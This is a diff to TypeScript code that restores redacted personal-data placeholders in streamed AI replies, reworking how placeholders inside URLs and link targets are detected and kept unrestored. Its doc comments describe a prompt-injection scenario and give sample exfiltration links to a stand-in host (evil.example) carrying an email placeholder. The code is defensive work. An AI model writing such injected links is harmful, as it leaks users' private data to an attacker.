@@ -1,20 +1,12 @@
 import type { EntityType } from "../types";
 import { ENTITY_TYPES } from "./find";
+import { LinkContext } from "./link-context";
 import { MAX_PLACEHOLDER_INDEX } from "./placeholders";
 
 /** Longest unfinished placeholder: "[SECRET_999999" (the closing bracket would finish it). */
 const MAX_PARTIAL = 1 + Math.max(...ENTITY_TYPES.map((type) => type.length)) + 1 + String(MAX_PLACEHOLDER_INDEX).length;
 
 const PLACEHOLDER = new RegExp(`\\[(?:${ENTITY_TYPES.join("|")})_[1-9]\\d{0,5}\\]`, "g");
-/** How much of the current word is remembered to tell a URL from prose. */
-const MAX_WORD = 2_048;
-/**
- * A placeholder inside a URL stays a placeholder: a model steered by an injection could write
- * `[verify](https://evil.example/?e=[EMAIL_1])`, and restoring the value there would hand it to
- * whoever made the link as soon as the person clicks. In prose it is restored.
- */
-const IN_URL = /[=/?&#%]|^www\.|\]\(/i;
-
 /**
  * Restores placeholders in a streamed reply. A chunk may end inside a placeholder ("… at [EMA"),
  * so the end of each chunk that could still become one is held back until the next chunk decides
@@ -23,8 +15,13 @@ const IN_URL = /[=/?&#%]|^www\.|\]\(/i;
  */
 export class PlaceholderRestorer {
   #held = "";
-  /** The end of the text already restored that has no whitespace: the word a placeholder would be part of. */
-  #word = "";
+  /**
+   * Where the text written so far leaves the next placeholder. Inside a URL or a link target it stays
+   * a placeholder: a model steered by an injection could write `[verify](https://evil.example/?e=[EMAIL_1])`
+   * or `<a href="https://evil.example/?u=\n[EMAIL_1]">`, and restoring the value there would hand it to
+   * whoever made the link as soon as the person clicks. In prose it is restored.
+   */
+  readonly #link = new LinkContext();
 
   readonly #keep: ReadonlySet<EntityType>;
 
@@ -56,26 +53,27 @@ export class PlaceholderRestorer {
   }
 
   #restore(text: string): string {
-    const word = this.#word;
-    const restored = text.includes("[")
-      ? text.replace(PLACEHOLDER, (placeholder: string, offset: number) => {
-          // Bounded look-back, so many placeholders in one chunk still cost linear time.
-          const before = text.slice(Math.max(0, offset - MAX_WORD), offset);
-          const inWord = currentWord(/\s/.test(before) ? before : word + before);
-          if (this.#keep.has(placeholder.slice(1, placeholder.indexOf("_")) as EntityType)) return placeholder;
-          return IN_URL.test(inWord) ? placeholder : this.map.restore(placeholder);
-        })
-      : text;
-    this.#word = currentWord(word + text).slice(-MAX_WORD);
-    return restored;
+    if (!text.includes("[")) {
+      this.#link.feed(text);
+      return text;
+    }
+    let out = "";
+    let last = 0;
+    for (const match of text.matchAll(PLACEHOLDER)) {
+      const placeholder = match[0];
+      const before = text.slice(last, match.index);
+      this.#link.feed(before);
+      const type = placeholder.slice(1, placeholder.indexOf("_")) as EntityType;
+      const keep = this.#keep.has(type) || this.#link.inside;
+      const written = keep ? placeholder : this.map.restore(placeholder);
+      this.#link.feed(written);
+      out += before + written;
+      last = match.index + placeholder.length;
+    }
+    const rest = text.slice(last);
+    this.#link.feed(rest);
+    return out + rest;
   }
-}
-
-/** The trailing run of non-whitespace characters, looking back at most MAX_WORD characters. */
-function currentWord(text: string): string {
-  const tail = text.slice(-MAX_WORD);
-  const space = tail.search(/\s\S*$/);
-  return space === -1 ? tail : tail.slice(space + 1);
 }
 
 /** Where a possible unfinished placeholder starts at the end of `text`, or `text.length`. */
